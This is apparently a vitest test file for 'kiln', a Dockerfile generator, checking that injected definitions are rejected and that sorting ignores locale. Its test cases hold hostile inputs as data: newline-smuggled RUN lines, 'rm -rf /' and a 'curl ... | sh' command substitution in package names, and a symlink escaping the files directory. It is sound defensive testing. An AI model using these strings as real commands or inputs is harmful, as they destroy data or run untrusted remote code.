import { existsSync, readFileSync, symlinkSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, test } from "vitest";
import { execute } from "@kiln/core";
import { runKiln as kiln } from "./testing/run-kiln.js";
import { createWorkspaceFixture, imageSource, type WorkspaceFixture } from "../../core/src/testing/workspace-fixture.js";

let fixture: WorkspaceFixture;
afterEach(() => fixture?.remove());

describe("a definition cannot make kiln write what it did not mean", () => {
  test.each<[string, string, RegExp]>([
    ["a newline in user", 'user: "app\\nRUN echo pwned",', /images\/x\/image\.ts: user: /],
    ["a newline in the description", 'description: "x\\nRUN echo pwned",', /images\/x\/image\.ts: description: a newline at character 2/],
    [
      "a newline in a label key",
      'labels: { "a\\nRUN echo pwned": "x" },',
      /images\/x\/image\.ts: labels\["a\\nRUN echo pwned"\]: expected a label key/,
    ],
    ["a command in a package name", 'packages: ["nginx; rm -rf / #"],', /packages\[0\]: expected a package name/],
    [
      "a command substitution in a package name",
      'packages: ["$(curl https://example.com/x | sh)"],',
      /packages\[0\]: expected a package name/,
    ],
    ["files from outside files/", 'files: [{ src: "x image.ts package.json", dest: "/x" }],', /files\[0\]\.src: a path that may hold only/],
  ])("%s exits 2 naming the field, and writes nothing", async (_name, extra, message) => {
    fixture = createWorkspaceFixture();
    const source = imageSource("x", { extra }).replace(
      'description: "x image", ',
      extra.startsWith("description") ? "" : 'description: "x image", ',
    );
    fixture.addImage("x", source);
    const result = await kiln(["synth"], fixture.root);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(message);
    expect(existsSync(path.join(fixture.root, "images/x/Dockerfile"))).toBe(false);
  });

  test("a file under files/ that links out of it exits 2", async () => {
    fixture = createWorkspaceFixture();
    const dir = fixture.addImage("x", imageSource("x", { extra: 'files: [{ src: "config", dest: "/etc/x.conf" }],' }));
    fixture.write("images/x/files/.keep", "");
    symlinkSync("../image.ts", path.join(dir, "files/config"));
    const result = await kiln(["synth"], fixture.root);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/images\/x\/image\.ts: files\[0\]\.src: "config" leads out of files\//);
    expect(existsSync(path.join(dir, "Dockerfile"))).toBe(false);
  });
});

describe("sorted by code point, never by locale", () => {
  test("a Dockerfile written under da_DK.UTF-8 passes synth --check under C.UTF-8", async () => {
    fixture = createWorkspaceFixture();
    // Danish collation puts "aa" (å) after "z"; code points put it first.
    fixture.addImage("x", imageSource("x", { extra: 'labels: { "z.team": "z", "aa.team": "aa" }, packages: ["zlib", "aalib"],' }));
    const danish = { LC_ALL: "da_DK.UTF-8", LANG: "da_DK.UTF-8" };
    const written = await kiln(["synth"], fixture.root, danish);
    expect(written.exitCode).toBe(0);
    const dockerfile = readFileSync(path.join(fixture.root, "images/x/Dockerfile"), "utf8");
    expect(dockerfile.indexOf("aa.team=")).toBeLessThan(dockerfile.indexOf("z.team="));
    expect(dockerfile).toContain("aalib zlib");
    expect((await kiln(["synth", "--check"], fixture.root, { LC_ALL: "C.UTF-8", LANG: "C.UTF-8" })).exitCode).toBe(0);
    // The locale is really in effect for the child: Node's collation under it orders the other way.
    const collation = await execute(
      { command: process.execPath, args: ["-e", 'console.log(["z", "aa"].sort((a, b) => a.localeCompare(b)).join(","))'] },
      { env: danish },
    );
    expect(collation.stdout.trim()).toBe("z,aa");
  });
});
